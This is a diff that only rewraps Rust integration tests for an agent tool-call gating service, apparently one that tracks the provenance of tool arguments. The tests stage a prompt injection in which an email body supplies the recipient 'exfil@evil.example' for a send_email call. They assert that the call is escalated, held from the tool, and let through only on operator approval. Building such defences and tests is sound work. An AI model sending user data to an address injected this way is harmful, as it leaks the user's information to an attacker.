@@ -48,7 +48,10 @@ struct Tool {
 
 impl Tool {
     fn run(&self, action: &str, args: &Value) -> Value {
-        self.log.lock().unwrap().push((action.to_owned(), args.clone()));
+        self.log
+            .lock()
+            .unwrap()
+            .push((action.to_owned(), args.clone()));
         match action {
             "read_inbox" => json!([
                 {"sender": "alice@corp.example", "body": "Lunch at noon?"},
@@ -70,7 +73,15 @@ impl Tool {
 }
 
 /// The runtime's loop: gate, run only when allowed, record the result.
-async fn step(s: &TestServer, token: &str, session: &str, tool: &Tool, call_id: &str, action: &str, args: Value) -> Value {
+async fn step(
+    s: &TestServer,
+    token: &str,
+    session: &str,
+    tool: &Tool,
+    call_id: &str,
+    action: &str,
+    args: Value,
+) -> Value {
     let answer = s
         .post(
             &format!("/v1/sessions/{session}/calls"),
@@ -112,8 +123,16 @@ async fn injected_recipient_never_reaches_the_tool_and_the_users_does() {
     let read = step(&s, &token, "inbox-1", &tool, "c0", "read_inbox", json!({})).await;
     assert_eq!(read["verdict"], "allow");
     // The injected address escalates: the tool never sees it.
-    let attack = step(&s, &token, "inbox-1", &tool, "c1", "send_email",
-        json!({"to": "exfil@evil.example", "body": "the report"})).await;
+    let attack = step(
+        &s,
+        &token,
+        "inbox-1",
+        &tool,
+        "c1",
+        "send_email",
+        json!({"to": "exfil@evil.example", "body": "the report"}),
+    )
+    .await;
     assert_eq!(attack["verdict"], "escalate");
     assert_eq!(attack["reason"], "argument_not_vouched:to");
     assert_eq!(attack["provenance"][0]["origins"], json!(["untrusted"]));
@@ -121,28 +140,62 @@ async fn injected_recipient_never_reaches_the_tool_and_the_users_does() {
     assert_eq!(attack["provenance"][0]["sources"][0]["field"], "[1].body");
     assert!(tool.calls("send_email").is_empty());
     // A sender from the trusted metadata and the user's own address pass.
-    let reply = step(&s, &token, "inbox-1", &tool, "c2", "send_email",
-        json!({"to": "alice@corp.example", "body": "yes"})).await;
+    let reply = step(
+        &s,
+        &token,
+        "inbox-1",
+        &tool,
+        "c2",
+        "send_email",
+        json!({"to": "alice@corp.example", "body": "yes"}),
+    )
+    .await;
     assert_eq!(reply["verdict"], "allow", "{reply}");
     assert_eq!(reply["provenance"][0]["origins"], json!(["trusted"]));
-    let to_bob = step(&s, &token, "inbox-1", &tool, "c3", "send_email",
-        json!({"to": "Bob@Corp.Example", "body": "summary"})).await;
+    let to_bob = step(
+        &s,
+        &token,
+        "inbox-1",
+        &tool,
+        "c3",
+        "send_email",
+        json!({"to": "Bob@Corp.Example", "body": "summary"}),
+    )
+    .await;
     assert_eq!(to_bob["verdict"], "allow");
     assert_eq!(tool.calls("send_email").len(), 2);
     // The session shows every call, its envelope folded the inbox's label.
-    let view = s.get("/v1/sessions/inbox-1", &token).await.expect(200).json();
+    let view = s
+        .get("/v1/sessions/inbox-1", &token)
+        .await
+        .expect(200)
+        .json();
     assert_eq!(view["calls"].as_array().unwrap().len(), 4);
     assert_eq!(view["calls"][1]["status"], "escalated");
     assert_eq!(view["envelope"]["labels"], json!(["mail"]));
     assert!(view["index"]["recorded_bytes"].as_u64().unwrap() > 0);
     // The operator approves: the same call proceeds once, through the API.
     let esc = attack["escalation_id"].as_str().unwrap().to_owned();
-    let queue = s.get("/v1/escalations?status=pending", OP).await.expect(200).json();
+    let queue = s
+        .get("/v1/escalations?status=pending", OP)
+        .await
+        .expect(200)
+        .json();
     assert_eq!(queue["escalations"][0]["target"]["kind"], "call");
     assert_eq!(queue["escalations"][0]["target"]["session_id"], "inbox-1");
-    s.post_empty(&format!("/v1/escalations/{esc}/approve"), OP).await.expect(200);
-    let again = step(&s, &token, "inbox-1", &tool, "c1", "send_email",
-        json!({"to": "exfil@evil.example", "body": "the report"})).await;
+    s.post_empty(&format!("/v1/escalations/{esc}/approve"), OP)
+        .await
+        .expect(200);
+    let again = step(
+        &s,
+        &token,
+        "inbox-1",
+        &tool,
+        "c1",
+        "send_email",
+        json!({"to": "exfil@evil.example", "body": "the report"}),
+    )
+    .await;
     assert_eq!(again["verdict"], "allow");
     assert_eq!(again["reason"], "escalation_approved");
     assert_eq!(tool.calls("send_email").len(), 3);
@@ -159,45 +212,87 @@ async fn injected_recipient_never_reaches_the_tool_and_the_users_does() {
 async fn bad_input_changes_nothing_and_cancel_refuses_later_calls() {
     let s = TestServer::with(POLICY, ServerConfig::default()).await;
     let token = s.token_for("assistant").await;
-    s.post("/v1/sessions", &token, json!({"session_id": "s-bad", "trusted_inputs": ["hi"]}))
-        .await
-        .expect(201);
+    s.post(
+        "/v1/sessions",
+        &token,
+        json!({"session_id": "s-bad", "trusted_inputs": ["hi"]}),
+    )
+    .await
+    .expect(201);
     let before = s.get("/v1/sessions/s-bad", &token).await.expect(200).json();
     let head = s.audit().await.len();
     // Arguments that are not an object, an unknown field, a result for a
     // call never made: each a precise error, nothing stored.
-    s.post("/v1/sessions/s-bad/calls", &token, json!({"action": "read_inbox", "arguments": [1]}))
-        .await
-        .expect_error(422, "invalid_value");
-    s.post("/v1/sessions/s-bad/calls", &token, json!({"action": "read_inbox", "arguments": {}, "actor": "x"}))
-        .await
-        .expect_error(422, "unknown_field");
-    s.post("/v1/sessions/s-bad/calls/nope/result", &token, json!({"result": 1}))
-        .await
-        .expect_error(404, "not_found");
-    assert_eq!(s.get("/v1/sessions/s-bad", &token).await.expect(200).json(), before);
+    s.post(
+        "/v1/sessions/s-bad/calls",
+        &token,
+        json!({"action": "read_inbox", "arguments": [1]}),
+    )
+    .await
+    .expect_error(422, "invalid_value");
+    s.post(
+        "/v1/sessions/s-bad/calls",
+        &token,
+        json!({"action": "read_inbox", "arguments": {}, "actor": "x"}),
+    )
+    .await
+    .expect_error(422, "unknown_field");
+    s.post(
+        "/v1/sessions/s-bad/calls/nope/result",
+        &token,
+        json!({"result": 1}),
+    )
+    .await
+    .expect_error(404, "not_found");
+    assert_eq!(
+        s.get("/v1/sessions/s-bad", &token).await.expect(200).json(),
+        before
+    );
     assert_eq!(s.audit().await.len(), head);
     // An unknown label on a result changes nothing either.
-    s.post("/v1/sessions/s-bad/calls", &token, json!({"call_id": "r", "action": "read_inbox", "arguments": {}}))
-        .await
-        .expect(200);
+    s.post(
+        "/v1/sessions/s-bad/calls",
+        &token,
+        json!({"call_id": "r", "action": "read_inbox", "arguments": {}}),
+    )
+    .await
+    .expect(200);
     let mid = s.get("/v1/sessions/s-bad", &token).await.expect(200).json();
-    s.post("/v1/sessions/s-bad/calls/r/result", &token, json!({"result": [], "labels": ["nonsense"]}))
-        .await
-        .expect_error(422, "invalid_value");
-    assert_eq!(s.get("/v1/sessions/s-bad", &token).await.expect(200).json(), mid);
+    s.post(
+        "/v1/sessions/s-bad/calls/r/result",
+        &token,
+        json!({"result": [], "labels": ["nonsense"]}),
+    )
+    .await
+    .expect_error(422, "invalid_value");
+    assert_eq!(
+        s.get("/v1/sessions/s-bad", &token).await.expect(200).json(),
+        mid
+    );
     // The same session id with other content conflicts.
-    s.post("/v1/sessions", &token, json!({"session_id": "s-bad", "trusted_inputs": ["other"]}))
-        .await
-        .expect_error(409, "session_conflict");
+    s.post(
+        "/v1/sessions",
+        &token,
+        json!({"session_id": "s-bad", "trusted_inputs": ["other"]}),
+    )
+    .await
+    .expect_error(409, "session_conflict");
     // Another agent's token cannot see it.
     s.get("/v1/sessions/s-bad", OP).await.expect(200);
     // Cancel: later calls are decided deny.
-    s.post("/v1/sessions/s-bad/cancel", OP, json!({"reason": "operator stop"}))
-        .await
-        .expect(200);
+    s.post(
+        "/v1/sessions/s-bad/cancel",
+        OP,
+        json!({"reason": "operator stop"}),
+    )
+    .await
+    .expect(200);
     let later = s
-        .post("/v1/sessions/s-bad/calls", &token, json!({"action": "read_inbox", "arguments": {}}))
+        .post(
+            "/v1/sessions/s-bad/calls",
+            &token,
+            json!({"action": "read_inbox", "arguments": {}}),
+        )
         .await
         .expect(200)
         .json();
@@ -214,35 +309,71 @@ async fn a_child_delegated_from_a_session_inherits_what_it_accumulated() {
     let s = TestServer::with(&policy, ServerConfig::default()).await;
     let token = s.token_for("assistant").await;
     let tool = Tool::default();
-    s.post("/v1/sessions", &token, json!({"session_id": "p", "trusted_inputs": ["read my mail"]}))
-        .await
-        .expect(201);
+    s.post(
+        "/v1/sessions",
+        &token,
+        json!({"session_id": "p", "trusted_inputs": ["read my mail"]}),
+    )
+    .await
+    .expect(201);
     step(&s, &token, "p", &tool, "c0", "read_inbox", json!({})).await;
     let view = s.get("/v1/sessions/p", &token).await.expect(200).json();
     assert_eq!(view["envelope"]["restrictions"], json!(["no_export"]));
     // The session's own export is now denied by the restriction.
-    let out = step(&s, &token, "p", &tool, "c1", "send_email", json!({"to": "bob@x.example", "body": "b"})).await;
+    let out = step(
+        &s,
+        &token,
+        "p",
+        &tool,
+        "c1",
+        "send_email",
+        json!({"to": "bob@x.example", "body": "b"}),
+    )
+    .await;
     assert_eq!(out["verdict"], "deny");
     assert_eq!(out["reason"], "restricted_by:no_export");
     // A child delegated from the session carries the restriction.
     let child = s
-        .post("/v1/agents/self/children", &token,
-            json!({"agent_id": "helper", "capabilities": ["send_email"], "from_session": "p"}))
+        .post(
+            "/v1/agents/self/children",
+            &token,
+            json!({"agent_id": "helper", "capabilities": ["send_email"], "from_session": "p"}),
+        )
         .await
         .expect(201)
         .json();
     let child_token = child["token"].as_str().unwrap().to_owned();
-    s.post("/v1/sessions", &child_token, json!({"session_id": "c", "trusted_inputs": ["email bob@x.example"]}))
+    s.post(
+        "/v1/sessions",
+        &child_token,
+        json!({"session_id": "c", "trusted_inputs": ["email bob@x.example"]}),
+    )
+    .await
+    .expect(201);
+    let view = s
+        .get("/v1/sessions/c", &child_token)
         .await
-        .expect(201);
-    let view = s.get("/v1/sessions/c", &child_token).await.expect(200).json();
+        .expect(200)
+        .json();
     assert_eq!(view["envelope"]["restrictions"], json!(["no_export"]));
-    let denied = step(&s, &child_token, "c", &tool, "c0", "send_email", json!({"to": "bob@x.example", "body": "b"})).await;
+    let denied = step(
+        &s,
+        &child_token,
+        "c",
+        &tool,
+        "c0",
+        "send_email",
+        json!({"to": "bob@x.example", "body": "b"}),
+    )
+    .await;
     assert_eq!(denied["verdict"], "deny");
     assert!(tool.calls("send_email").is_empty());
     // A session of another agent cannot be the source.
-    s.post("/v1/agents/self/children", &child_token,
-        json!({"agent_id": "grandchild", "capabilities": [], "from_session": "p"}))
-        .await
-        .expect_error(404, "not_found");
+    s.post(
+        "/v1/agents/self/children",
+        &child_token,
+        json!({"agent_id": "grandchild", "capabilities": [], "from_session": "p"}),
+    )
+    .await
+    .expect_error(404, "not_found");
 }
